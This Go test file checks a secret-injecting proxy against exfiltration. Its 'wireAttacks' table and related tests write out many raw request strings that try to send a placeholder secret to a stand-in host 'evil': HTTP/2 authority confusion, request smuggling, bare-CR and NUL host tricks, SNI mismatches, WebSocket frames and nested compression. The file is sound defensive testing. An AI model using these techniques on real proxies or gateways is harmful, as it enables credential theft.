package proxy

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"compress/zlib"
	"context"
	"crypto/ecdh"
	"crypto/rand"
	"crypto/tls"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/klauspost/compress/zstd"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2 is one request of HTTP/2, frame by frame.
type h2 struct {
	sni      string      // whom TLS asks for; "" is no TLS
	fields   [][2]string // the header, as it is sent
	pieces   int         // into how many frames the header goes, if more than one
	data     string
	trailers [][2]string
}

// send sends the request to an address and returns what was answered: a status, or how the stream ended.
func (x h2) send(s *scene, address string) string {
	raw, err := s.dial(context.Background(), address)
	if err != nil {
		return err.Error()
	}
	defer raw.Close()
	_ = raw.SetDeadline(time.Now().Add(10 * time.Second))
	c := raw
	if x.sni != "" {
		c = tls.Client(raw, &tls.Config{InsecureSkipVerify: true, ServerName: x.sni, NextProtos: []string{"h2"}})
	}
	// What goes out as one has no answer in between.
	var out bytes.Buffer
	out.Write(h2Preface)
	f := http2.NewFramer(&out, c)
	_ = f.WriteSettings()
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	head := func(fields [][2]string, pieces int, last bool) {
		block.Reset()
		for _, kv := range fields {
			_ = enc.WriteField(hpack.HeaderField{Name: kv[0], Value: kv[1], Sensitive: strings.Contains(kv[1], "never indexed")})
		}
		b := block.Bytes()
		size := (len(b) + pieces - 1) / max(pieces, 1)
		if pieces < 2 {
			size = len(b)
		}
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: b[:size], EndHeaders: size == len(b), EndStream: last})
		for at := size; at < len(b); at += size {
			end := min(len(b), at+size)
			_ = f.WriteContinuation(1, end == len(b), b[at:end])
		}
	}
	head(x.fields, x.pieces, x.data == "" && x.trailers == nil)
	if x.data != "" {
		_ = f.WriteData(1, x.trailers == nil, []byte(x.data))
	}
	if x.trailers != nil {
		head(x.trailers, 1, true)
	}
	if _, err := c.Write(out.Bytes()); err != nil {
		return err.Error()
	}
	f.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			return err.Error()
		}
		switch frame := frame.(type) {
		case *http2.MetaHeadersFrame:
			return frame.PseudoValue("status")
		case *http2.RSTStreamFrame:
			return frame.ErrCode.String()
		case *http2.GoAwayFrame:
			return frame.ErrCode.String()
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				out.Reset()
				_ = f.WriteSettingsAck()
				_, _ = c.Write(out.Bytes())
			}
		}
	}
}

// get is the header of a request, with more fields.
func h2get(host, path string, more ...[2]string) [][2]string {
	return append([][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", path}}, more...)
}

func zip(text string, more ...string) string {
	var b bytes.Buffer
	for _, m := range append([]string{text}, more...) {
		w := gzip.NewWriter(&b)
		_, _ = io.WriteString(w, m)
		_ = w.Close()
	}
	return b.String()
}

// frame is one of a WebSocket's, masked.
func frame(first byte, key [4]byte, text string) string {
	b := []byte{first, 0x80 | byte(len(text))}
	if len(text) > 125 {
		b = binary.BigEndian.AppendUint16([]byte{first, 0x80 | 126}, uint16(len(text)))
	}
	b = append(b, key[:]...)
	for i, c := range []byte(text) {
		b = append(b, c^key[i%4])
	}
	return string(b)
}

// webSocket has the server at evil agree to become one, and sends frames.
func webSocket(s *scene, header string, frames ...string) string {
	s.bed.listen(evilIP+":443", func(c net.Conn) {
		cert, _ := s.servers.certificate(evil)
		t := tls.Server(c, &tls.Config{Certificates: []tls.Certificate{*cert}})
		in := bufio.NewReader(t)
		r, err := http.ReadRequest(in)
		if err != nil {
			return
		}
		fmt.Fprintf(t, "HTTP/1.1 101 Switching\r\nConnection: Upgrade\r\nUpgrade: %s\r\nX-Extensions: %s\r\n\r\n", r.Header.Get("Upgrade"), r.Header.Get("Sec-WebSocket-Extensions"))
		buf := make([]byte, 4096)
		for {
			n, err := in.Read(buf)
			s.mu.Lock()
			s.raw.Write(buf[:n])
			s.mu.Unlock()
			if err != nil {
				return
			}
		}
	})
	raw, err := s.dial(context.Background(), evil+":443")
	if err != nil {
		return err.Error()
	}
	defer raw.Close()
	_ = raw.SetDeadline(time.Now().Add(10 * time.Second))
	c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, ServerName: evil})
	fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s\r\nConnection: Upgrade\r\n%s\r\n\r\n", evil, header)
	in := bufio.NewReader(c)
	res, err := http.ReadResponse(in, nil)
	if err != nil {
		return err.Error()
	}
	if res.StatusCode != http.StatusSwitchingProtocols || res.Header.Get("X-Extensions") != "" {
		return fmt.Sprint(res.StatusCode, res.Header)
	}
	for _, f := range frames {
		if _, err := io.WriteString(c, f); err != nil {
			return err.Error()
		}
	}
	_, err = in.ReadByte() // the connection ends with the violation
	return fmt.Sprint("ended: ", err)
}

// wireAttacks are those that a client's library would not let one write.
var wireAttacks = map[string]attack{
	"HTTP/2, two hosts": {do: func(s *scene) string {
		return h2{sni: evil, fields: h2get(evil, "/", [2]string{"host", good}, [2]string{"x", placeholder})}.send(s, evil+":443")
	}},
	"HTTP/2, two hosts, the other way round": {do: func(s *scene) string {
		return h2{sni: evil, fields: h2get(good, "/", [2]string{"host", evil}, [2]string{"x", placeholder})}.send(s, evil+":443")
	}},
	"HTTP/2, two authorities": {do: func(s *scene) string {
		return h2{sni: evil, fields: h2get(evil, "/", [2]string{":authority", good}, [2]string{"x", placeholder})}.send(s, evil+":443")
	}, quiet: true},
	"HTTP/2, no authority, the host of another": {do: func(s *scene) string {
		return h2{sni: evil, fields: [][2]string{{":method", "GET"}, {":scheme", "https"}, {":path", "/"}, {"host", good}, {"x", placeholder}}}.send(s, evil+":443")
	}},
	"HTTP/2, an absolute path": {do: func(s *scene) string {
		return h2{sni: evil, fields: h2get(evil, "https://"+good+"/", [2]string{"x", placeholder})}.send(s, evil+":443")
	}},
	"HTTP/2, the method": {do: func(s *scene) string {
		return h2{sni: evil, fields: append([][2]string{{":method", placeholder}}, h2get(evil, "/")[1:]...)}.send(s, evil+":443")
	}},
	"HTTP/2, the path": {do: func(s *scene) string {
		return h2{sni: evil, fields: h2get(evil, "/%2524MSB_API_KEY")}.send(s, evil+":443")
	}},
	"HTTP/2, a crumb of a cookie": {do: func(s *scene) string {
		return h2{sni: evil, fields: h2get(evil, "/", [2]string{"cookie", "a=b"}, [2]string{"cookie", "c=" + placeholder})}.send(s, evil+":443")
	}},
	"HTTP/2, a header in pieces": {do: func(s *scene) string {
		return h2{sni: evil, fields: h2get(evil, "/", [2]string{"x", "never indexed " + placeholder}), pieces: 30}.send(s, evil+":443")
	}},
	"HTTP/2, a trailer": {do: func(s *scene) string {
		return h2{sni: evil, fields: append([][2]string{{":method", "POST"}}, h2get(evil, "/", [2]string{"trailer", "x"})[1:]...), data: "a", trailers: [][2]string{{"x", placeholder}}}.send(s, evil+":443")
	}},
	"HTTP/2, a host in a trailer": {do: func(s *scene) string {
		return h2{sni: evil, fields: append([][2]string{{":method", "POST"}}, h2get(evil, "/")[1:]...), data: placeholder, trailers: [][2]string{{"host", good}, {":authority", good}}}.send(s, evil+":443")
	}, quiet: true}, // it may be looked at after it was refused for the trailer
	"HTTP/2, an extended CONNECT": {do: func(s *scene) string {
		return h2{sni: evil, fields: [][2]string{{":method", "CONNECT"}, {":protocol", "websocket"}, {":scheme", "https"}, {":authority", evil}, {":path", "/"}, {"x", placeholder}}}.send(s, evil+":443")
	}, quiet: true},
	"HTTP/2, CONNECT": {do: func(s *scene) string {
		return h2{sni: good, fields: [][2]string{{":method", "CONNECT"}, {":authority", evil + ":443"}}, data: placeholder}.send(s, good+":443")
	}},
	"HTTP/2 without TLS": {do: func(s *scene) string {
		return h2{fields: h2get(good, "/", [2]string{"x", placeholder})}.send(s, evil+":80")
	}},
	"HTTP/2 without TLS, to the allowed host": {do: func(s *scene) string {
		return h2{fields: h2get(good, "/", [2]string{"x", placeholder})}.send(s, good+":80")
	}},
	"HTTP/2 where HTTP/1.1 was agreed on": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"+string([]byte{0, 0, 0, 4, 0, 0, 0, 0, 0})+placeholder, "http/1.1")
	}, quiet: true},
	"HTTP/1.1 where HTTP/2 was agreed on": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+evil+"\r\nX: "+placeholder+"\r\n\r\n", "h2")
	}},
	"the second of two in one piece": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET /first HTTP/1.0\r\nHost: "+evil+"\r\nConnection: keep-alive\r\n\r\nGET /second HTTP/1.0\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"the second of two in one piece, plain": {do: func(s *scene) string {
		return s.rawTCP(evil+":80", "GET /first HTTP/1.1\r\nHost: "+evil+"\r\n\r\nGET /second HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"a request after one with a value": {do: func(s *scene) string {
		return s.rawTLS(good+":443", good, "GET /first HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\nGET /second HTTP/1.1\r\nHost: "+evil+"\r\nX: "+placeholder+"\r\n\r\n")
	}, good: true},
	"a chunk's extension": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "POST / HTTP/1.1\r\nHost: "+evil+"\r\nTransfer-Encoding: chunked\r\n\r\n1;x="+placeholder+"\r\na\r\n0\r\n\r\n")
	}, quiet: true},
	"a length with a sign": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "POST / HTTP/1.1\r\nHost: "+evil+"\r\nContent-Length: +12\r\n\r\n"+placeholder)
	}},
	"an unknown coding of the transfer": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "POST / HTTP/1.1\r\nHost: "+evil+"\r\nTransfer-Encoding: gzip, chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"+placeholder)
	}},
	"a space before the colon": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+evil+"\r\nX : "+placeholder+"\r\n\r\n")
	}},
	"a bare CR": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+evil+"\r\nX: a\rHost: "+good+"\rY: "+placeholder+"\r\n\r\n")
	}},
	"lines that end in LF": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\nHost: "+evil+"\nX: "+placeholder+"\n\n")
	}},
	"HTTP/0.9": {do: func(s *scene) string { return s.rawTCP(evil+":80", "GET /"+placeholder+"\r\n") }},
	"a small method": {do: func(s *scene) string {
		return s.rawTCP(evil+":80", "get /"+placeholder+" HTTP/1.1\r\nHost: "+good+"\r\n\r\n")
	}},
	"a user before the host": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+good+"@"+evil+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"a user before the host of an absolute URL": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET https://"+good+"@"+evil+"/ HTTP/1.1\r\nHost: "+evil+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"two ports": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+good+":443:443\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"a host with other letters": {do: func(s *scene) string { // a server that folds U+3002 takes it for a dot
		return s.rawTCP(evil+":80", "GET / HTTP/1.1\r\nHost: api\u3002good\u3002test\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"a host with a NUL": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+good+"\x00."+evil+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"an address in IPv6": {do: func(s *scene) string {
		return s.rawTCP(evil+":80", "GET / HTTP/1.1\r\nHost: [::ffff:"+goodIP+"]\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"a name with a final dot, elsewhere": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+good+".\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"the allowed name in TLS with a final dot, elsewhere": {do: func(s *scene) string {
		return s.rawTCP(evil+":443", string(clientHello(extension(extServerName, names(good+".")))))
	}},
	"the allowed name below an encrypted one": {do: func(s *scene) string { return s.encryptedHello(evil, good) }, quiet: true},
	"another name below an encrypted one":     {do: func(s *scene) string { return s.encryptedHello(good, evil) }, quiet: true},
	"data before the handshake is over": {do: func(s *scene) string {
		early, data := extension(42, nil), "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n"
		return s.rawTCP(good+":443", string(clientHello(extension(extServerName, names(good)), early))+string([]byte{23, 3, 3, 0, byte(len(data))})+data)
	}, quiet: true},
	"the allowed name in TLS at an address of two": {do: func(s *scene) string {
		s.mu.Lock()
		s.names["two.test"] = []string{evilIP, goodIP}
		s.mu.Unlock()
		if _, err := s.resolve("two.test"); err != nil {
			return err.Error()
		}
		return s.rawTLS(evilIP+":443", "API.GOOD.TEST", "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
	}},
	"the protocol to go over to": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+evil+"\r\nConnection: Upgrade\r\nUpgrade: "+placeholder+"\r\n\r\n")
	}},
	"what goes no further": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "GET / HTTP/1.1\r\nHost: "+evil+"\r\nConnection: X, "+placeholder+"\r\nX: "+placeholder+"\r\nProxy-Authorization: "+placeholder+"\r\nTE: "+placeholder+"\r\n\r\n")
	}, quiet: true},
	"frames of a WebSocket": {do: func(s *scene) string {
		return webSocket(s, "Upgrade: websocket", frame(0x81, [4]byte{1, 2, 3, 4}, "hello"), frame(0x82, [4]byte{7, 9, 13, 200}, strings.Repeat("x", 300)+placeholder))
	}},
	"frames of a WebSocket, in parts": {do: func(s *scene) string {
		return webSocket(s, "Upgrade: WebSocket", frame(0x01, [4]byte{1, 2, 3, 4}, "$MSB_"), frame(0x89, [4]byte{9, 9, 9, 9}, "ping"), frame(0x80, [4]byte{0, 0, 7, 0}, "API_KEY"))
	}},
	"frames of a WebSocket, without a mask": {do: func(s *scene) string {
		return webSocket(s, "Upgrade: websocket", frame(0x81, [4]byte{}, placeholder))
	}},
	"frames of a WebSocket, a ping": {do: func(s *scene) string {
		return webSocket(s, "Upgrade: websocket\r\nSec-WebSocket-Extensions: permessage-deflate", frame(0x89, [4]byte{1, 1, 1, 1}, placeholder))
	}},
	"another protocol that was gone over to": {do: func(s *scene) string { return webSocket(s, "Upgrade: echo", "\x01\x02", "$MSB_", "API_KEY") }},
	"gzip of several members": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader(zip("hello", "$MSB_API", "_KEY")), "Content-Encoding", "gzip")
	}},
	"gzip twice": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader(zip(zip(placeholder))), "Content-Encoding", "gzip", "Content-Encoding", "x-gzip")
	}},
	"gzip three times": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader(zip(zip(zip(placeholder)))), "Content-Encoding", "gzip, gzip, gzip")
	}},
	"the name of a file in gzip": {do: func(s *scene) string {
		var b bytes.Buffer
		w := gzip.NewWriter(&b)
		w.Name = placeholder
		_ = w.Close()
		return s.do("POST", "https://"+evil+"/", &b, "Content-Encoding", "gzip")
	}},
	"zstd, frames behind each other": {do: func(s *scene) string {
		var b bytes.Buffer
		for _, text := range []string{"hello", strings.Repeat("a", 100) + placeholder} {
			w, _ := zstd.NewWriter(&b)
			_, _ = io.WriteString(w, text)
			_ = w.Close()
			b.Write([]byte{0x50, 0x2a, 0x4d, 0x18, 3, 0, 0, 0, 'a', 'b', 'c'}) // one to be skipped
		}
		return s.do("POST", "https://"+evil+"/", &b, "Content-Encoding", "zstd")
	}},
	"zstd, a frame to be skipped": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader("\x50\x2a\x4d\x18\x0c\x00\x00\x00"+placeholder), "Content-Encoding", "zstd")
	}},
	"deflate, and something behind it": {do: func(s *scene) string {
		var b bytes.Buffer
		w := zlib.NewWriter(&b)
		_, _ = io.WriteString(w, "hello")
		_ = w.Close()
		return s.do("POST", "https://"+evil+"/", io.MultiReader(&b, strings.NewReader(placeholder)), "Content-Encoding", "deflate")
	}},
	"a header that a proxy is to take away": {do: func(s *scene) string {
		return s.rawTLS(evil+":443", evil, "POST / HTTP/1.1\r\nHost: "+evil+"\r\nConnection: Content-Encoding\r\nContent-Encoding: gzip\r\nContent-Length: "+fmt.Sprint(len(zip(placeholder)))+"\r\n\r\n"+zip(placeholder))
	}, quiet: true},
	"the boundary of parts": {do: func(s *scene) string {
		return s.do("POST", "https://"+evil+"/", strings.NewReader("x"), "Content-Type", `multipart/form-data; boundary="`+placeholder+`"`)
	}},
	"UTF-16": {do: func(s *scene) string {
		wide := "\xfe\xff"
		for _, c := range placeholder {
			wide += "\x00" + string(c)
		}
		return s.do("POST", "https://"+evil+"/", strings.NewReader(wide), "Content-Type", "text/plain; charset=utf-16")
	}},
	"percent-encoded twice": {do: func(s *scene) string {
		return s.do("GET", "https://"+evil+"/?q="+url.QueryEscape(url.QueryEscape(placeholder)), nil)
	}},
	"hexadecimal in a header": {do: func(s *scene) string {
		return s.do("GET", "https://"+evil+"/", nil, "X", hex.EncodeToString([]byte(placeholder)))
	}},
	"two headers": {do: func(s *scene) string { // nobody puts them together
		return s.do("GET", "https://"+evil+"/", nil, "X", "$MSB_", "X", "API_KEY")
	}, quiet: true},
}

func TestWireAttacks(t *testing.T) { tryAll(t, wireAttacks) }

// TestForgedAnswer has a name server, or who speaks for it, say that the allowed host is at other addresses, too. The value goes
// to all that have its certificate, and to no other.
func TestForgedAnswer(t *testing.T) {
	b := newBed(t, opts{tls: on, secrets: keySecret(nil), values: []string{value}, names: map[string][]string{good: {evilIP, otherIP, goodIP}}})
	at := map[string]*site{evilIP: b.serve(evilIP+":443", helloHandler, evil), otherIP: b.serve(otherIP+":443", helloHandler, good), goodIP: b.serve(goodIP+":443", helloHandler, good)}
	plain := b.serve(evilIP+":80", helloHandler)
	if _, err := b.resolve(good); err != nil {
		t.Fatal(err)
	}
	for ip, s := range at {
		r := request(t, "GET", "https://"+good+"/", nil)
		r.Header.Set("X", placeholder)
		status, text := get(b.client(map[string]string{good: ip}), r)
		if want := ip != evilIP; s.saw(value) != want || (status == 200) != want {
			t.Errorf("at %s: sent %v, %d %q", ip, s.saw(value), status, text)
		}
	}
	r := request(t, "GET", "http://"+good+"/", nil)
	r.Header.Set("X", placeholder)
	if status, text := get(b.client(map[string]string{good: evilIP}), r); status != 403 || plain.saw(value) {
		t.Errorf("in plain HTTP: %d %q", status, text)
	}
	if !b.said("the certificate of "+good+" is not trusted") || !b.said("secret API_KEY may not go to "+good) {
		t.Errorf("the events: %q", b.events)
	}
}

// TestTrace has a server that answers TRACE, as RFC 9110 (section 9.3.8) wants it, and would tell the guest what it was sent.
func TestTrace(t *testing.T) {
	for _, method := range []string{"TRACE", "trace", "TRACK"} {
		for _, h2 := range []bool{false, true} {
			b := newBed(t, opts{tls: on, secrets: keySecret(nil), values: []string{value}})
			s := b.serve(goodIP+":443", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "message/http")
				_ = r.Header.Write(w)
			}), good)
			c := b.client(nil)
			c.Transport.(*http.Transport).ForceAttemptHTTP2 = h2
			r := request(t, method, "https://"+good+"/", nil)
			r.Header.Set("X", placeholder)
			status, text := get(c, r)
			if status != http.StatusForbidden || strings.Contains(text, value) || s.saw(value) || !b.said("denied by policy") {
				t.Errorf("%s, HTTP/2 %v: %d %q; the events: %q", method, h2, status, text, b.events)
			}
		}
	}
	b := newBed(t, opts{tls: on})
	b.serve(goodIP+":443", helloHandler, good)
	if status, text := get(b.client(nil), request(t, "TRACE", "https://"+good+"/", nil)); status != 200 {
		t.Errorf("without a secret: %d %q", status, text)
	}
}

// TestSentBack has the server send the value back in what a proxy may change: the guest gets its placeholder, or nothing.
func TestSentBack(t *testing.T) {
	const value = "sk/value+of the&secret"
	basic := base64.StdEncoding.EncodeToString([]byte("me:" + value))
	ways := map[string]string{
		"as it is": value, "basic authentication": "Basic " + basic, "base64 for URLs": base64.RawURLEncoding.EncodeToString([]byte("user:" + value)),
		"in a URL": "/?k=" + url.QueryEscape(value), "in a path": "/" + url.PathEscape(value), "in a URL, small digits": "/?k=" + strings.ToLower(url.QueryEscape(value)),
		"hexadecimal": hex.EncodeToString([]byte(value)),
	}
	b := newBed(t, opts{tls: on, secrets: keySecret(nil), values: []string{value}})
	b.listen(goodIP+":443", func(raw net.Conn) {
		cert, _ := b.servers.certificate(good)
		c := tls.Server(raw, &tls.Config{Certificates: []tls.Certificate{*cert}})
		r, err := http.ReadRequest(bufio.NewReader(c))
		if err != nil {
			return
		}
		way := ways[r.URL.Query().Get("way")]
		switch r.URL.Path {
		case "/header":
			fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nX-Back: %s\r\nContent-Length: 0\r\n\r\n", way)
		case "/early":
			fmt.Fprintf(c, "HTTP/1.1 103 Early Hints\r\nX-Back: %s\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", way)
		case "/trailer":
			fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Back\r\n\r\n0\r\nX-Back: %s\r\n\r\n", way)
		case "/trailername":
			name := "X-" + hex.EncodeToString([]byte(value))
			fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: %s\r\n\r\n0\r\n%s: x\r\n\r\n", name, name)
		case "/status":
			fmt.Fprintf(c, "HTTP/1.1 200 %s\r\nContent-Length: 0\r\n\r\n", way)
		case "/switch":
			fmt.Fprintf(c, "HTTP/1.1 101 %s\r\nConnection: Upgrade\r\nUpgrade: echo\r\nX-Back: %s\r\n\r\n", way, way)
		case "/name":
			fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nX-%s: x\r\nContent-Length: 0\r\n\r\n", hex.EncodeToString([]byte(value)))
		}
	})
	for _, path := range []string{"/header", "/early", "/trailer", "/trailername", "/status", "/switch", "/name"} {
		for name, way := range ways {
			raw, err := b.dialTLS(good+":443", good)
			must(t, err)
			upgrade := ""
			if path == "/switch" {
				upgrade = "Connection: Upgrade\r\nUpgrade: echo\r\n"
			}
			fmt.Fprintf(raw, "GET %s?way=%s HTTP/1.1\r\nHost: %s\r\nTE: trailers\r\nConnection: close\r\nX: %s\r\n%s\r\n", path, url.QueryEscape(name), good, placeholder, upgrade)
			got, _ := io.ReadAll(raw)
			raw.Close()
			text := strings.ToLower(string(got))
			if len(got) == 0 || strings.Contains(text, strings.ToLower(way)) || strings.Contains(text, hex.EncodeToString([]byte(value))) {
				t.Errorf("%s in %s: the guest was told %q", name, path, got)
			}
			if path == "/header" && !strings.Contains(string(got), placeholder) {
				t.Errorf("%s: nothing stands for it: %q", name, got)
			}
		}
	}
}

// encryptedHello sends a request in TLS to the server of name outer, with a hello that has another name inside (RFC 9849), as if the server
// could read that.
func (s *scene) encryptedHello(outer, inner string) string {
	key, err := ecdh.X25519().GenerateKey(rand.Reader)
	must(s.t, err)
	sized := func(n int, b []byte) []byte {
		return append(binary.BigEndian.AppendUint32(nil, uint32(len(b)))[4-n:], b...)
	}
	config := slices.Concat([]byte{1, 0, 0x20}, sized(2, key.PublicKey().Bytes()), sized(2, []byte{0, 1, 0, 1}), []byte{0}, sized(1, []byte(outer)), sized(2, nil))
	raw, err := s.dial(context.Background(), outer+":443")
	if err != nil {
		return err.Error()
	}
	defer raw.Close()
	_ = raw.SetDeadline(time.Now().Add(3 * time.Second))
	return exchange(tls.Client(raw, &tls.Config{
		ServerName: inner, MinVersion: tls.VersionTLS13, RootCAs: s.roots,
		EncryptedClientHelloConfigList:      sized(2, append([]byte{0xfe, 0x0d}, sized(2, config)...)),
		EncryptedClientHelloRejectionVerify: func(tls.ConnectionState) error { return nil },
	}), "GET / HTTP/1.1\r\nHost: "+good+"\r\nX: "+placeholder+"\r\n\r\n")
}
